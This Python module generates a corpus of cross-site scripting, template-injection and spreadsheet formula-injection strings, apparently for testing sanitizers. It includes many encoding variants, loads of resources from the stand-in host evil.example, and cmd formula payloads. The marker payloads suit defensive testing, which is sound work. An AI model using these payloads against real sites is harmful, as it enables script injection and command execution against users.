# ruff: noqa: E501 (strings of the corpus)
"""Strings that would run a script, load something or change a page where a text is put into it without care.

They are made here: ways to begin (out of an attribute, a comment, another element) × elements and what sets them off ×
ways to write it. Whatever they make holds MARK: in a name, an attribute or an address.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

MARK = "pwn7"
RUN = f"{MARK}()"
ELSEWHERE = f"evil.example/{MARK}"

BEGINNINGS = (
    '"', "'", '">', "'>", "`>", "-->", "]]>", "*/", "}}", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "</svg>", "</td></tr></table>", "<!--><", '"/>', "&quot;>", "\\\">",
)  # fmt: skip

SET_OFF = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("iframe src=/about", "onload"),
    ("object data=/about", "onload"), ("p contenteditable autofocus", "onfocus"), ("svg><animate", "onbegin"),
    ("style", "onload"), ("link rel=stylesheet href=/static/x.css", "onload"), ("div", "onmouseover"),
    ("a href=#", "onclick"), ("form", "onsubmit"), ("button popovertarget=x", "onbeforetoggle"),
    ("div style=transition:all", "ontransitionend"), ("math><mi", "onclick"), ("video><source", "onerror"),
    ("body", "onhashchange"), ("meter", "onpointerenter"), ("dialog open", "onclose"),
)  # fmt: skip

HREFS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f" javascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}",
    f"javascript://%0a{RUN}", f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,{MARK}",
    f"vbscript:{RUN}", f"//{ELSEWHERE}", f"https://{ELSEWHERE}", f"feed:javascript:{RUN}", f"view-source:{MARK}",
    f"https://x.example/\"onmouseover={RUN}", f"https://x.example/'onmouseover={RUN}", f"https://x.example/<b {MARK}>",
    f"blob:{MARK}", f"file:///etc/{MARK}", f"http:javascript:{RUN}", f"http://user:{MARK}@evil.example/",
)  # fmt: skip

LOADING = (
    "script src=//{at}", "img src=//{at}", "iframe src=//{at}", "iframe srcdoc='<script>{run}</script>'",
    "object data=//{at}", "embed src=//{at}", "link rel=stylesheet href=//{at}", "link rel=import href=//{at}",
    "base href=//{at}", "meta http-equiv=refresh content=0;url=//{at}", "form action=//{at}><button>",
    "button formaction=javascript:{run}", "input type=image src=//{at}", "video poster=//{at}", "a ping=//{at} href=/",
    "table background=//{at}", "svg><use href=//{at}#x", "svg><image href=//{at}", "svg><a xlink:href=javascript:{run}",
    "math href=javascript:{run}", "style>@import '//{at}'", "style>*{{background:url(//{at})}}",
    "div style=background:url(//{at})", "script type=module src=//{at}", "script>import('//{at}')",
    "audio src=//{at} autoplay", "portal src=//{at}", "frameset onload={run}", "applet code=//{at}", "isindex action={run}",
)  # fmt: skip

SCRIPTS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>", "<script\n>{run}</script\n>",
    "<<script>{run}//<</script>", "<script>{run}//", "<scr<script>ipt>{run}</scr</script>ipt>", "<svg><script>{run}",
    "<script>/*{run}*/</script>{run}", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--<img src='--><img src=x onerror={run}//'>", "<![CDATA[<script>{run}</script>]]>", "<?xml?><script>{run}</script>",
    "<template><script>{run}</script></template>", "<textarea><script>{run}</script>", "<xmp><script>{run}</script>",
    "<plaintext {mark}>", "<title><script>{run}</script>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
)  # fmt: skip

FRAMEWORKS = (
    "<div hx-get=/about hx-trigger=load hx-on::load={run}>", "<div data-hx-get=//{at} data-hx-trigger=load>",
    "<div hx-on:load={run}>", "<div hx-vals='js:{{x:{run}}}' hx-post=/read hx-trigger=load>", "<div hx-ext={mark}>",
    "{{{{{run}}}}}", "{{% {mark} %}}", "${{{run}}}", "<%= {run} %>", "#{{{run}}}", "{{{{constructor.constructor('{run}')()}}}}",
    "<{mark}-element>", "<div is={mark} {mark}>", "<slot name={mark} onslotchange={run}>", "<div id={mark}><a name={mark}>",
    "<form id=document><input name=cookie value={mark}>", "<img name=querySelector id={mark}>", "__proto__[{mark}]",
    "=HYPERLINK(\"http://{at}\")", "@SUM({run})", "+cmd|'{run}'!A1", "-2+3+{run}", "\t={run}", "=cmd|' /C {mark}'!A0",
)  # fmt: skip

WRITTEN = (
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x}" for c in s),
    lambda s: quote(s, safe=""),
    lambda s: quote(quote(s, safe=""), safe=""),
    lambda s: s.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda s: s.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda s: s.replace("<", "＜").replace(">", "＞"),
    lambda s: s.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda s: s.replace("<", "&lt;").replace(">", "&gt;"),
    lambda s: s.replace("<", "<\u200b").replace("=", "\u2028="),
    lambda s: s.upper().replace(MARK.upper(), MARK),
    lambda s: s.replace(" ", "/"),
    lambda s: s.replace(" ", "\n"),
    lambda s: s.replace(" ", "\x0c"),
)  # fmt: skip
"""Other ways to write the same."""

PLAIN = f"<img src=x onerror={RUN}>"


def _filled(words: str) -> str:
    return words.format(run=RUN, mark=MARK, at=ELSEWHERE)


def _all() -> Iterator[str]:
    yield from (f"{beginning}{PLAIN}" for beginning in BEGINNINGS)
    yield from (f"{beginning} onmouseover={RUN} {MARK}=" for beginning in ('"', "'", "`", "x", "x\n"))
    for element, handler in SET_OFF:
        yield f"<{element} {handler}={RUN}>"
        yield f'<{element} {handler}="{RUN}" {MARK}>'
    yield from (f"<a {MARK} href='{href}'>" for href in HREFS)
    yield from HREFS
    yield from (f"<{_filled(words)}>" for words in LOADING)
    yield from map(_filled, (*SCRIPTS, *FRAMEWORKS))
    yield from (write(PLAIN) for write in WRITTEN)
    yield from (write(f"<script>{RUN}</script>") for write in WRITTEN)
    yield from (f"\u202e{PLAIN}\u202c", f"\x1b]0;{MARK}\x07", f"\ufeff{PLAIN}", f"😀{PLAIN}", f"e\u0301{PLAIN}")


CORPUS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
